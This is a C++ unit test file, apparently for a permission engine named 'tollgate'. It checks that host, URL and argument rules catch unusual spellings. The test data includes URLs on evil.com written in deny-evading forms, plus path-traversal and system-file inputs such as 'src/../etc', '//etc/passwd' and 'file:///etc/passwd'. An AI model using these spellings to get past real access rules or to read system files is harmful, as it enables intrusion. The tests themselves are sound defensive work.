  EXPECT_FALSE(host_covers(below, reach("example.com", "")));
  const RuleView url = rule("https://example.com/docs/*", SpecifierKind::kUrl);
  EXPECT_TRUE(host_covers(url, reach("example.com", "https://example.com/docs/x")));
  EXPECT_FALSE(host_covers(url, reach("example.com", "https://example.com/docs/../admin")));
  EXPECT_FALSE(host_covers(url, reach("example.com", "http://example.com/docs/x")));
  EXPECT_FALSE(host_covers(url, reach("example.com", "https://example.com:8443/docs/x")));
  EXPECT_FALSE(host_covers(url, reach("evil.com", "https://evil.com/docs/x")));
}

struct HostCase {
  const char* name;
  const char* specifier;
  const char* host;
  const char* url;
  Match deny;
  bool allow;
};

constexpr HostCase kHosts[] = {
    {"as written", "https://evil.com/secret", "evil.com", "https://evil.com/secret", Match::kYes,
     true},
    {"a fragment never reaches the server", "https://evil.com/secret", "evil.com",
     "https://evil.com/secret#x", Match::kYes, true},
    {"a fragment right behind the host", "https://evil.com/", "evil.com", "https://evil.com#x",
     Match::kYes, true},
    {"a fragment is no path", "https://evil.com/*/open", "evil.com", "https://evil.com/a#/open",
     Match::kNo, false},
    {"an added query, for deny only", "https://evil.com/secret", "evil.com",
     "https://evil.com/secret?x", Match::kYes, false},
    {"a query right behind the host", "https://evil.com/*", "evil.com", "https://evil.com?x",
     Match::kYes, true},
    {"a query that the pattern spells", "https://evil.com/s?q=*", "evil.com",
     "https://evil.com/s?q=1", Match::kYes, true},
    {"another query than the pattern spells", "https://evil.com/s?q=*", "evil.com",
     "https://evil.com/s?r=1", Match::kNo, false},
    {"an encoded query where the pattern spells one", "https://evil.com/s?q=*", "evil.com",
     "https://evil.com/s?%71=1", Match::kMaybe, false},
    {"an encoded query where the path decides", "https://evil.com/admin/*", "evil.com",
     "https://evil.com/x?u=%2f//.", Match::kNo, false},
    {"a star of the path does not cover a query", "https://evil.com/*/open", "evil.com",
     "https://evil.com/secret?/open", Match::kYes, false},
    {"a query under an open end", "https://evil.com/docs/*", "evil.com",
     "https://evil.com/docs/x?u=https://a/../b", Match::kYes, true},
    {"a port with zeros in front", "https://evil.com/admin/*", "evil.com",
     "https://evil.com:0443/admin/x", Match::kYes, true},
    {"an empty port", "https://evil.com/admin/*", "evil.com", "https://evil.com:/admin/x",
     Match::kYes, true},
    {"the usual port of the other scheme", "http://evil.com/*", "evil.com",
     "http://evil.com:00080/x", Match::kYes, true},
    {"another port", "https://evil.com/admin/*", "evil.com", "https://evil.com:8443/admin/x",
     Match::kNo, false},
    {"another port, however odd the path", "https://evil.com/admin/*", "evil.com",
     "https://evil.com:8443/%61", Match::kNo, false},
    {"the clear scheme of the same host, for deny only", "https://evil.com/admin/*", "evil.com",
     "http://evil.com/admin/x", Match::kYes, false},
    {"the secure scheme of the same host, for deny only", "http://evil.com/*", "evil.com",
     "https://evil.com/x", Match::kYes, false},
    {"a web socket of the same host, for deny only", "https://evil.com/*", "evil.com",
     "wss://evil.com/x", Match::kYes, false},
    {"a web socket in the clear, for deny only", "https://evil.com/*", "evil.com",
     "ws://evil.com:80/x", Match::kYes, false},
    {"another scheme does not change the path", "https://evil.com/admin/*", "evil.com",
     "http://evil.com/other", Match::kNo, false},
    {"another scheme on another port", "https://evil.com/*", "evil.com", "http://evil.com:8080/x",
     Match::kNo, false},
    {"another scheme on the port that the pattern spells", "https://evil.com:8443/*", "evil.com",
     "http://evil.com:8443/x", Match::kYes, false},
    {"any scheme is a web socket's too", "*://evil.com/*", "evil.com", "ws://evil.com/x",
     Match::kYes, true},
    {"any scheme on one port", "*://evil.com:443/*", "evil.com", "https://evil.com/x", Match::kYes,
     true},
    {"a scheme in upper case", "https://evil.com/admin/*", "evil.com", "HTTPS://evil.com/admin/x",
     Match::kYes, true},
    {"an encoded letter", "https://evil.com/admin/*", "evil.com", "https://evil.com/%61dmin/x",
     Match::kMaybe, false},
    {"an encoded letter behind the part that matches", "https://evil.com/admin/*", "evil.com",
     "https://evil.com/admin/%61", Match::kYes, false},
    {"a doubled slash", "https://evil.com/admin/*", "evil.com", "https://evil.com//admin/x",
     Match::kMaybe, false},
    {"a parent segment", "https://evil.com/admin/*", "evil.com", "https://evil.com/x/../admin/x",
     Match::kMaybe, false},
    {"any path, however odd", "https://evil.com/*", "evil.com", "https://evil.com//a/../%61",
     Match::kYes, true},
    {"no path, however odd", "https://evil.com", "evil.com", "https://evil.com//a/../%61",
     Match::kYes, true},
    {"another path", "https://evil.com/admin/*", "evil.com", "https://evil.com/other", Match::kNo,
     false},
    {"an IPv6 address", "domain:[::1]", "::1", "http://[::1]/", Match::kYes, true},
    {"an IPv6 address written out", "domain:0:0:0:0:0:0:0:1", "::1", "http://[::1]/", Match::kYes,
     true},
    {"an IPv6 address in a URL", "http://[::1]/*", "::1", "http://[::1]/", Match::kYes, true},
    {"an IPv6 address in a URL, with a port", "http://[0::1]:80/*", "::1", "http://[::1]/",
     Match::kYes, true},
    {"another IPv6 address", "http://[::1]/*", "::2", "http://[::2]/", Match::kNo, false},
    {"a short address", "domain:127.1", "127.0.0.1", "http://127.0.0.1/", Match::kYes, true},
    {"a hexadecimal address in a URL", "http://0x7f000001/*", "127.0.0.1", "http://127.1/",
     Match::kYes, true},
};

TEST(HostRules, SeeThroughSpelling) {
  for (const HostCase& c : kHosts) {
    const auto specifier = normal_host(c.specifier);
    ASSERT_TRUE(specifier) << c.name << ": " << specifier.error().message;
    const bool domain = specifier->starts_with("domain:");
    const RuleView rule{.specifier_kind = domain ? SpecifierKind::kHost : SpecifierKind::kUrl,
                        .specifier = *specifier};
    const Effect effect{.kind = EffectKind::kReach, .host = c.host, .url = c.url};
    EXPECT_EQ(host_hits(rule, effect), c.deny) << c.name;
    EXPECT_EQ(host_covers(rule, effect), c.allow) << c.name;
  }
}

struct ArgumentCase {
  const char* name;
  const char* specifier;
  const char* input;
  Match deny;
  bool allow;
};

constexpr ArgumentCase kArguments[] = {
    {"a text", "repo=acme/*", R"({"repo":"acme/site"})", Match::kYes, true},
    {"a star stays in its segment", "repo=acme/*", R"({"repo":"acme/site/x"})", Match::kNo, false},
    {"two stars cross", "repo=acme/**", R"({"repo":"acme/site/x"})", Match::kYes, true},
    {"a number", "n=1", R"({"n":1.0})", Match::kYes, true},
    {"a truth", "force=true", R"({"force":true})", Match::kYes, true},
    {"a text that looks like a truth", "force=true", R"({"force":"true"})", Match::kYes, true},
    {"missing", "repo=acme/*", R"({"other":1})", Match::kMaybe, false},
    {"null", "repo=*", R"({"repo":null})", Match::kMaybe, false},
    {"an object", "repo=*", R"({"repo":{}})", Match::kMaybe, false},
    {"nested", "a.b=x", R"({"a":{"b":"x"}})", Match::kYes, true},
    {"a dotted name as it stands", "a.b=x", R"({"a.b":"x"})", Match::kYes, true},
    {"a dotted name that is both, the inner one alike", "a.b=evil",
     R"({"a.b":"ok","a":{"b":"evil"}})", Match::kYes, false},
    {"a dotted name that is both, the outer one alike", "a.b=evil",
     R"({"a":{"b":"ok"},"a.b":"evil"})", Match::kYes, false},
    {"a dotted name that is both, alike in both", "a.b=x", R"({"a.b":"x","a":{"b":"x"}})",
     Match::kYes, true},
    {"a dotted name that is both, alike in neither", "a.b=evil", R"({"a.b":"ok","a":{"b":"ok"}})",
     Match::kNo, false},
    {"a dotted name that is there once", "a.b=ok", R"({"a.b":"ok","a":{"c":"evil"}})", Match::kYes,
     true},
    {"a dotted name that is an object in one reading", "a.b=ok", R"({"a.b":"ok","a":{"b":{}}})",
     Match::kYes, false},
    {"a dotted name with its dot further in", "a.b.c=evil",
     R"({"a":{"b":{"c":"ok"},"b.c":"evil"}})", Match::kYes, false},
    {"a dotted name with its dot further out", "a.b.c=evil",
     R"({"a":{"b":{"c":"ok"}},"a.b":{"c":"evil"}})", Match::kYes, false},
    {"a dotted name in an array that lacks it", "a.b=ok", R"({"a.b":"ok","a":[{"c":1}]})",
     Match::kYes, true},
    {"an array, all alike", "tag=a*", R"({"tag":["a1","a2"]})", Match::kYes, true},
    {"an array, some alike", "tag=a*", R"({"tag":["a1","b2"]})", Match::kYes, false},
    {"an empty array", "tag=a*", R"({"tag":[]})", Match::kNo, false},
    {"inside an array of objects", "files.path=src/*",
     R"({"files":[{"path":"src/a"},{"path":"etc/b"}]})", Match::kYes, false},
    {"two arguments", "a=1, b=2", R"({"a":1,"b":2})", Match::kYes, true},
    {"one of two is another", "a=1, b=2", R"({"a":1,"b":3})", Match::kNo, false},
    {"one of two is missing", "a=1, b=2", R"({"a":1})", Match::kMaybe, false},
    {"a parent segment", "path=src/**", R"({"path":"src/../etc"})", Match::kMaybe, false},
    {"an encoded dot", "path=src/**", R"({"path":"src/%2E%2e/etc"})", Match::kMaybe, false},
    {"a backslash", "path=src/**", R"({"path":"src\\..\\etc"})", Match::kMaybe, false},
    {"a doubled slash in front", "p=/etc/**", R"({"p":"//etc/passwd"})", Match::kMaybe, false},
    {"a doubled slash inside", "p=/etc/passwd", R"({"p":"/etc//passwd"})", Match::kMaybe, false},
    {"a doubled slash that matches as written", "p=/etc/**", R"({"p":"/etc//passwd"})", Match::kYes,
     false},
    {"a slash at the end", "p=/etc/**", R"({"p":"/etc/ssl/"})", Match::kYes, true},
    {"a doubled slash where no path is meant", "p=a*", R"({"p":"a//b"})", Match::kNo, false},
    {"the slashes of a URL", "u=https://a.org/**", R"({"u":"https://a.org/x"})", Match::kYes, true},
    {"the slashes of a URL against a path", "u=/etc/**", R"({"u":"s3://etc/passwd"})", Match::kNo,
     false},
    {"a doubled slash in a URL", "u=https://a.org/x/**", R"({"u":"https://a.org//x/y"})",
     Match::kMaybe, false},
    {"a file's URL against a path", "u=/etc/**", R"({"u":"file:///etc/passwd"})", Match::kMaybe,
     false},
    {"a file's URL that the pattern spells", "u=file:///w/**", R"({"u":"file:///w/x"})",
     Match::kYes, true},
    {"a drive is no scheme", "p=c:/x", R"({"p":"c://x"})", Match::kMaybe, false},
    {"a scheme further in is a path", "p=src/**", R"({"p":"src/ab://x"})", Match::kYes, false},
    {"the text of JSON is never matched", "a=*x*", R"({"b":"x"})", Match::kMaybe, false},
    {"names are exact", "Repo=x", R"({"repo":"x"})", Match::kMaybe, false},
};

TEST(ArgumentRules, CompareNamedValues) {
  for (const ArgumentCase& c : kArguments) {
    const auto arguments = argument_patterns(c.specifier);
    ASSERT_TRUE(arguments) << c.name;
    const Result<json::Value> input = json::parse(c.input);
    ASSERT_TRUE(input) << c.name;
    EXPECT_EQ(arguments_hit(packed(*arguments), *input), c.deny) << c.name;
    EXPECT_EQ(arguments_cover(packed(*arguments), *input), c.allow) << c.name;
  }
}

// The filter before the path rules, as compile.cc fills it for one rule, beside the rule itself.
TEST(PathHits, AreNeverFarByTheFilter) {
  constexpr std::string_view kParts[] = {"a",    "B",       "src", ".env", "Build", "x.C", "home",
                                         "user", "project", "etc", "*",    "**",    "s?c", "[ab]"};
  constexpr std::string_view kAnchors[] = {"//", "~/", "/", "./", "", "//home/user/", "~/project/"};
  constexpr std::string_view kRoots[] = {
      "/",    "/home/user", "/home/user/project", "/data/project", "/data/home/user",
      "/srv", "/HOME/User"};
  Situation around;
  around.home = {"/home/user", "/data/home/user"};
  around.base = around.cwd = {"/home/user/project", "/data/project"};
  around.roots = {around.base, {"/srv", "/srv"}};
  std::mt19937 random(20);
  const auto below = [&](std::size_t count) { return random() % count; };
  const auto joined = [&](std::string text, std::size_t parts, std::size_t known) {
    for (std::size_t i = 0; i < parts; ++i) {
      if (!text.empty() && !text.ends_with('/')) text += '/';
      for (const char c : kParts[below(known)])
        text += below(6) == 0 ? static_cast<char>(std::toupper(static_cast<unsigned char>(c))) : c;
    }
    return text;
  };
  int hits = 0, far = 0;
  for (int i = 0; i < 200'000; ++i) {
    const std::string specifier =
        joined(std::string(kAnchors[below(std::size(kAnchors))]), 1 + below(3), std::size(kParts));
    const PathPattern rule = path_pattern(specifier);
    if (rule.floating) continue;  // asked everywhere
    const std::string_view prefix = literal_prefix(rule.pattern);
    PathStarts starts{};
    starts[static_cast<std::size_t>(rule.anchor)] = prefix.empty() ? ~0u : start_bit(prefix);
    Effect effect;
    effect.kind = EffectKind::kRead;
    effect.path = joined(std::string(kRoots[below(std::size(kRoots))]), below(4), 10);
    effect.recursive = below(3) == 0;
    PathLook look;
    look.state = PathState::kFile;
    look.real = effect.path;
    const bool near = may_be_near(starts, effect.path, around);
    far += near ? 0 : 1;
    if (path_hits(specifier, effect, look, around) == Match::kNo) continue;
    ++hits;
    ASSERT_TRUE(near) << specifier << " and " << effect.path;
  }
  EXPECT_GT(hits, 1'000);
  EXPECT_GT(far, 1'000);
}

}  // namespace
}  // namespace tollgate
